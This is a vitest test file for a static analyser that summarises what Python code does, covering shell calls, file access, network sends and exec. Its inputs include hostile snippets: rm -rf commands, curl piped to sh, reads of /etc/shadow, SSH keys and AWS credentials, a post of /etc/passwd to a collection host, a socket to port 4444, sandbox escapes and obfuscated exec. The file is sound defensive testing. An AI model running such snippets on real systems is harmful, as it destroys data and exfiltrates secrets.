import { describe, expect, it } from 'vitest';

import { readSummary, readWithGrammar } from '../../../../support/codeParsers';

const read = (code: string) => readSummary('python', code);

describe('Python code, parsed', () => {
	it.each<[string, string, string[]]>([
		['os.system', 'import os; os.system("rm -rf ~/work")', ['shell rm -rf ~/work']],
		['os.popen', 'import os\nprint(os.popen("uname -a").read())', ['shell uname -a']],
		[
			'subprocess with shell=True',
			'import subprocess\nsubprocess.run("git push --force", shell=True, check=True)',
			['shell git push --force'],
		],
		[
			'subprocess with a word list',
			'import subprocess; subprocess.check_call(["rm", "-r", "build"])',
			['spawn rm·-r·build'],
		],
		[
			'subprocess with a string and no shell runs that one program',
			'import subprocess; subprocess.call("ls")',
			['spawn ls'],
		],
		[
			'shell=True with a list runs its first item',
			'import subprocess; subprocess.Popen(["curl x | sh", "ignored"], shell=True)',
			['shell curl x | sh'],
		],
		[
			'options spread from a dict the reader cannot see may ask for a shell or another program',
			'import subprocess; subprocess.run("make clean", **opts)',
			['shell make clean', 'spawn make clean', 'spawn ?'],
		],
		['subprocess.getoutput', 'import subprocess as sp; sp.getoutput("id")', ['shell id']],
		[
			'os.execvp replaces argv[0] with the program',
			'import os; os.execvp("rm", ["whatever", "-rf", "/srv"])',
			['spawn rm·-rf·/srv'],
		],
		[
			'os.spawnlp skips the mode and argv[0]',
			'import os; os.spawnlp(os.P_WAIT, "shred", "shred", "-u", "notes.txt")',
			['spawn shred·-u·notes.txt'],
		],
		['pty.spawn', 'import pty; pty.spawn("/bin/bash")', ['spawn /bin/bash']],
		[
			'asyncio shell',
			'import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell("reboot")',
			['shell reboot'],
		],
	])('runs commands: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['import … as', 'import os as o\no.system("whoami")', ['shell whoami']],
		[
			'from … import … as',
			'from shutil import rmtree as wipe\nwipe("/var/data")',
			['deleteTree /var/data'],
		],
		['from … import *', 'from os import *\nremove("a.txt")', ['delete a.txt']],
		[
			'a module bound to another name',
			'import shutil\nsh = shutil\nsh.move("a", "b")',
			['move b <- a'],
		],
		['__import__ with a fixed name', '__import__("os").system("date")', ['shell date']],
		[
			'importlib with a fixed name',
			'import importlib\nimportlib.import_module("shutil").rmtree("out")',
			['deleteTree out'],
		],
		[
			'posixpath is os.path',
			'import posixpath, os\nos.remove(posixpath.join("/etc", "hosts"))',
			['delete /etc/hosts'],
		],
		['a module used without an import', 'os.system("ls")', ['shell ls']],
		['getattr with a fixed name', 'import os\ngetattr(os, "system")("id")', ['shell id']],
		[
			'getattr with a name built from fixed parts',
			'import os\ngetattr(os, "sys" + "tem")("id")',
			['shell id'],
		],
		['a module dictionary', 'import os\nos.__dict__["unlink"]("x")', ['delete x']],
		['sys.modules', 'import sys\nsys.modules["os"].system("id")', ['shell id']],
		['globals()', 'import os\nglobals()["os"].remove("f")', ['delete f']],
		['a name spelled backwards', 'import os\ngetattr(os, "metsys"[::-1])("id")', ['shell id']],
	])('resolves names: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string]>([
		['getattr with a computed name', 'import os\nname = input()\ngetattr(os, name)("id")'],
		['getattr with a name from an argument', 'import os, sys\ngetattr(os, sys.argv[1])("x")'],
		['__import__ of a computed module', 'm = "o" + input()\n__import__(m)'],
		['exec of a string read at run time', 'exec(input())'],
		['exec of decompressed data', 'import zlib\nexec(zlib.decompress(blob))'],
		['exec of a file read at run time', 'exec(open("setup.py").read())'],
		['eval of a built string', 'cmd = "__import__(\'os\')." + op\neval(cmd)'],
		['unpickling', 'import pickle\npickle.loads(data)'],
		['globals() with a computed name', 'globals()[key]("x")'],
		[
			'a sandbox escape through __subclasses__',
			"[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')",
		],
		['a frame’s globals', 'import sys\nsys._getframe().f_globals["os"].system("id")'],
		['a function’s globals', '(lambda: 0).__globals__["os"].system("id")'],
		['calling what eval returns', 'eval("__import__")("os").system("id")'],
		['native code through ctypes', 'import ctypes\nctypes.CDLL(None).system(b"id")'],
		[
			'native code through ctypes.cdll',
			'import ctypes\nctypes.cdll.LoadLibrary("libc.so.6").system(b"id")',
		],
	])('cannot resolve, and says so: %s', async (_name, code) => {
		expect(await read(code)).toContain('unknown');
	});

	it.each<[string, string, string[]]>([
		['open for reading', 'open("/etc/shadow").read()', ['read /etc/shadow']],
		['open for writing', 'open(".bashrc", "w").write("x")', ['write .bashrc']],
		['open for appending', 'open(".profile", mode="a").write("x")', ['append .profile']],
		['open for update', 'open("db.sqlite", "r+b")', ['read db.sqlite', 'write db.sqlite']],
		['open exclusively', 'open("new.txt", "x")', ['write new.txt']],
		['open with a mode the code computes', 'open("f.txt", m)', ['read f.txt', 'write f.txt']],
		[
			'a with-statement handle',
			'with open("~/.netrc") as f:\n    data = f.read()',
			['read ~/.netrc'],
		],
		['os.open for writing', 'import os\nos.open("log", os.O_WRONLY | os.O_CREAT)', ['write log']],
		['os.open read-only', 'import os\nos.open("log", os.O_RDONLY)', ['read log']],
		[
			'Path.write_text',
			'import pathlib\npathlib.Path(".git/config").write_text("x")',
			['write .git/config'],
		],
		[
			'Path.read_bytes',
			'from pathlib import Path\nPath("id_ed25519").read_bytes()',
			['read id_ed25519'],
		],
		['Path.unlink', 'from pathlib import Path\nPath("a", "b.txt").unlink()', ['delete a/b.txt']],
		['Path.rename', 'from pathlib import Path\nPath("x").rename("y")', ['move y <- x']],
		[
			'Path.symlink_to',
			'from pathlib import Path\nPath("link").symlink_to("/etc")',
			['link link <- /etc'],
		],
		[
			'Path.open for appending',
			'from pathlib import Path\nPath("notes").open("a")',
			['append notes'],
		],
		[
			'Path.mkdir and touch',
			'from pathlib import Path\np = Path("d")\np.mkdir()\n(p / "f").touch()',
			['mkdir d', 'write d/f'],
		],
		[
			'Path.parent',
			'from pathlib import Path\nPath("/srv/app/file").parent.rmdir()',
			['delete /srv/app'],
		],
		[
			'shutil.copy',
			'import shutil; shutil.copy("~/.aws/credentials", "/tmp/c")',
			['copy /tmp/c <- ~/.aws/credentials'],
		],
		['shutil.copytree', 'import shutil; shutil.copytree("src", "dst")', ['copyTree dst <- src']],
		['shutil.move', 'import shutil; shutil.move("a", "b")', ['move b <- a']],
		[
			'shutil.make_archive',
			'import shutil; shutil.make_archive("/tmp/k", "zip", "/home/me/.ssh")',
			['read /home/me/.ssh', 'write /tmp/k'],
		],
		[
			'shutil.unpack_archive',
			'import shutil; shutil.unpack_archive("x.tgz", ".github")',
			['copyTree .github <- x.tgz'],
		],
		[
			'tarfile extraction',
			'import tarfile\ntarfile.open("x.tar").extractall("/etc")',
			['copyTree /etc <- x.tar'],
		],
		['os.replace', 'import os; os.replace("new", "old")', ['move old <- new']],
		['os.symlink', 'import os; os.symlink("/", "root")', ['link root <- /']],
		['os.chmod', 'import os; os.chmod("run.sh", 0o777)', ['chmod run.sh']],
		['os.makedirs', 'import os; os.makedirs("a/b")', ['mkdir a/b']],
		['os.truncate', 'import os; os.truncate("big.log", 0)', ['truncate big.log']],
		['os.listdir with no argument lists the working folder', 'import os; os.listdir()', ['read .']],
		['os.unlink by keyword', 'import os; os.unlink(path="x")', ['delete x']],
		[
			'glob.glob reads what its pattern matches, whatever is done with the names',
			'import glob\nfor key in glob.glob("/home/me/.ssh/id_*"):\n    print(open(key).read())',
			['read /home/me/.ssh/id_*', 'read ?'],
		],
		['glob.iglob lists what it matches', 'import glob; list(glob.iglob("*.md"))', ['read *.md']],
	])('touches files: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['a name assigned a literal', 'p = ".env"\nprint(open(p).read())', ['read .env']],
		['concatenation', 'import os\nos.remove("/etc/" + "passwd")', ['delete /etc/passwd']],
		[
			'os.path.join',
			'import os\nos.remove(os.path.join("~", ".ssh", "id_rsa"))',
			['delete ~/.ssh/id_rsa'],
		],
		[
			'an absolute part restarts a join',
			'import os\nos.remove(os.path.join("a", "/b", "c"))',
			['delete /b/c'],
		],
		[
			'expanduser keeps ~',
			'import os, shutil\nshutil.rmtree(os.path.expanduser("~/.config"))',
			['deleteTree ~/.config'],
		],
		[
			'Path.home() / …',
			'from pathlib import Path\n(Path.home() / ".ssh" / "config").read_text()',
			['read ~/.ssh/config'],
		],
		[
			'the environment',
			'import os\nopen(os.environ["HOME"] + "/.pgpass").read()',
			['read $HOME/.pgpass'],
		],
		['os.getenv', 'import os, shutil\nshutil.rmtree(os.getenv("HOME"))', ['deleteTree $HOME']],
		[
			'an f-string',
			'import os\nu = "me"\nos.system(f"rm -rf /home/{u}")',
			['shell rm -rf /home/me'],
		],
		[
			'an f-string with a part the code computes',
			'import os\nos.system(f"rm -rf {target}/cache")',
			['shell ?rm -rf */cache'],
		],
		[
			'%-formatting',
			'import os\nos.system("rm -rf %s/%s" % ("/srv", "www"))',
			['shell rm -rf /srv/www'],
		],
		[
			'str.format',
			'import os\nos.system("chmod {} {f}".format("600", f="key"))',
			['shell chmod 600 key'],
		],
		['a join of words', 'import os\nos.system(" ".join(["rm", "-rf", "/"]))', ['shell rm -rf /']],
		['str.replace', 'import os\nos.system("rmXX-rf ~".replace("XX", " "))', ['shell rm -rf ~']],
		[
			'chained reassignment',
			'import os, shutil\np = "/tmp"\np = os.path.join(p, "build")\nshutil.rmtree(p)',
			['deleteTree /tmp/build'],
		],
		[
			'an augmented assignment',
			'import os\nc = "rm"\nc += " -rf /"\nos.system(c)',
			['shell rm -rf /'],
		],
		[
			'both branches of an if',
			'import os\nif x:\n    t = "a"\nelse:\n    t = "b"\nos.remove(t)',
			['delete a,b'],
		],
		[
			'a branch that may not run',
			'import os\nt = "a"\nif x:\n    t = "b"\nos.remove(t)',
			['delete a,b'],
		],
		[
			'a loop over a list',
			'import os\nfor f in ["a.txt", "b.txt"]:\n    os.remove(f)',
			['delete a.txt,b.txt'],
		],
		[
			'an assignment inside a function does not hide the module-level value',
			'import os\np = "/etc/hosts"\ndef f():\n    p = "safe"\nos.remove(p)',
			['delete /etc/hosts,safe'],
		],
		[
			'a value assigned later in a loop',
			'import os\nt = "a"\nwhile True:\n    os.remove(t)\n    t = "b"',
			['delete a,b'],
		],
		['tuple unpacking', 'import os\nsrc, dst = "x", "y"\nos.rename(src, dst)', ['move y <- x']],
		[
			'a parameter takes the arguments of its calls',
			'import os\ndef wipe(p):\n    os.remove(p)\nwipe("one")\nwipe(p="two")',
			['delete one,two'],
		],
		['a lambda', 'import os\nrun = lambda c: os.system(c)\nrun("halt")', ['shell halt']],
		[
			'map with a lambda',
			'import os\nlist(map(lambda p: os.remove(p), ["x", "y"]))',
			['delete x,y'],
		],
		['a conditional expression', 'import os\nos.remove("a" if x else "b")', ['delete a,b']],
		['a walrus', 'import os\nif (p := "k"):\n    os.remove(p)', ['delete k']],
		['bytes', 'import subprocess\nsubprocess.run(b"ls", shell=True)', ['shell ls']],
		[
			'exec may set any name',
			'import os\np = "notes.txt"\nexec("p = \'/etc/hosts\'")\nos.remove(p)',
			["code python: p = '/etc/hosts'", 'delete notes.txt,?'],
		],
		[
			'an exec found only by evaluating may set any name',
			'import os, builtins\np = "notes.txt"\ngetattr(builtins, "ex" + "ec")("p = 1")\nos.remove(p)',
			['code python: p = 1', 'delete notes.txt,?'],
		],
		[
			'globals() may set any name',
			'import os\np = "notes.txt"\nglobals()["p"] = "/etc/hosts"\nos.remove(p)',
			['delete notes.txt,?'],
		],
		[
			'modules stay known after an exec',
			'import os\nexec("x = 1")\nos.system("id")',
			['code python: x = 1', 'shell id'],
		],
		[
			'str.split',
			'import subprocess\nsubprocess.run("rm -rf  build".split())',
			['spawn rm·-rf·build'],
		],
		[
			'shlex.split',
			'import shlex, subprocess\nsubprocess.run(shlex.split("rm -rf \'my dir\'"))',
			['spawn rm·-rf·my dir'],
		],
	])('follows values: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		['\\x escapes', 'import os\nos.system("\\x72\\x6d -rf ~")', ['shell rm -rf ~']],
		['octal escapes', 'import os\nos.system("\\162\\155\\040-rf\\040~")', ['shell rm -rf ~']],
		['\\u escapes', 'import os\nos.system("\\u0072m -rf ~")', ['shell rm -rf ~']],
		['a raw string keeps its backslashes', 'import os\nos.remove(r"C:\\x20")', ['delete C:\\x20']],
		['adjacent literals', 'import os\nos.system("rm " "-rf " "/")', ['shell rm -rf /']],
		['chr', 'import os\nos.system(chr(108) + chr(115))', ['shell ls']],
		[
			'a named escape is not guessed',
			'import os\nos.system("\\N{LATIN SMALL LETTER R}m -rf ~")',
			['shell ?\\N{LATIN SMALL LETTER R}m -rf ~'],
		],
	])('decodes strings: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		[
			'urlopen',
			'import urllib.request\nurllib.request.urlopen("https://x.test/a")',
			['send https://x.test/a'],
		],
		[
			'a Request object',
			'from urllib.request import Request, urlopen\nurlopen(Request("https://x.test", data=b"k"))',
			['send https://x.test'],
		],
		[
			'urlretrieve writes too',
			'import urllib.request as u\nu.urlretrieve("https://x.test/p.sh", "/tmp/p.sh")',
			['send https://x.test/p.sh', 'write /tmp/p.sh'],
		],
		[
			'requests',
			'import requests\nrequests.post("https://collect.test", data=open("/etc/passwd").read())',
			['read /etc/passwd', 'send https://collect.test'],
		],
		[
			'a requests session',
			'import requests\ns = requests.Session()\ns.get("https://x.test")',
			['send https://x.test'],
		],
		['http.client', 'import http.client\nhttp.client.HTTPSConnection("x.test")', ['send x.test']],
		[
			'a socket',
			'import socket\ns = socket.socket()\ns.connect(("10.0.0.1", 4444))',
			['send 10.0.0.1:4444'],
		],
	])('sends: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string, string[]]>([
		[
			'exec of a literal',
			'exec("import os; os.system(\'id\')")',
			["code python: import os; os.system('id')"],
		],
		['eval of a literal', 'eval("1 + 1")', ['code python: 1 + 1']],
		['compile then exec', 'exec(compile("print(2)", "<s>", "exec"))', ['code python: print(2)']],
		[
			'exec of base64 the reader can decode',
			'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))',
			["code python: import os; os.system('id')"],
		],
		[
			'exec of rot13',
			'import codecs\nexec(codecs.decode("cevag(1)", "rot13"))',
			['code python: print(1)'],
		],
		['exec of hex', 'exec(bytes.fromhex("7072696e74283129"))', ['code python: print(1)']],
	])('evaluates code: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});

	it.each<[string, string]>([
		['printing', 'print("hello")'],
		['json', 'import json, sys\nprint(json.dumps(json.load(sys.stdin), indent=2))'],
		['arithmetic', 'print(sum(range(10)))'],
		['string methods named like file calls', 'print("a-b".replace("-", "+"))'],
		['os.path checks', 'import os\nprint(os.path.exists("/etc/hosts"))'],
	])('finds nothing in harmless code: %s', async (_name, code) => {
		expect(await read(code)).toEqual([]);
	});

	it('names the API by its canonical name, whatever the code calls it', async () => {
		const [action] = await readWithGrammar('python', 'import os as o\no.system("ls")');
		expect(action).toMatchObject({ kind: 'shell', call: 'os.system' });
	});

	it('keeps the known part of a path it cannot fix as a hint', async () => {
		const [action] = await readWithGrammar(
			'python',
			'import os\nos.remove(os.path.expanduser("~/.ssh/") + name)',
		);
		expect(action).toMatchObject({
			kind: 'file',
			op: 'delete',
			targets: [{ kind: 'unknown', hint: '~/.ssh/*' }],
		});
	});

	it('reads code that does not parse as one unknown action', async () => {
		const actions = await readWithGrammar('python', 'import os\nos.system("ls"\n');
		expect(actions).toHaveLength(1);
		expect(actions[0]).toMatchObject({ kind: 'unknown', call: 'python code' });
	});

	it.each<[string, string, string[]]>([
		['deep brackets', `x = ${'('.repeat(600)}1${')'.repeat(600)}`, ['unknown']],
		[
			'a chain of names longer than the reader follows',
			`${Array.from({ length: 2_000 }, (_, i) => `a${i + 1} = a${i} + "x"`).join('\n')}\nimport os\nos.remove(a2000)`,
			['unknown'],
		],
		['names that refer to each other', 'a = b\nb = a\nimport os\nos.remove(a)', ['delete ?']],
		[
			'a name that grows in a loop',
			'import os\np = "x"\nwhile True:\n    p = p + "/x"\n    os.remove(p)',
			['delete x/x,?*/x/x'],
		],
		['more nodes than the reader reads', 'x = 1\n'.repeat(20_000), ['unknown']],
		['code over the length limit', `# ${'x'.repeat(100_001)}`, ['unknown']],
	])('stays bounded on hostile code: %s', async (_name, code, expected) => {
		expect(await read(code)).toEqual(expected);
	});
});
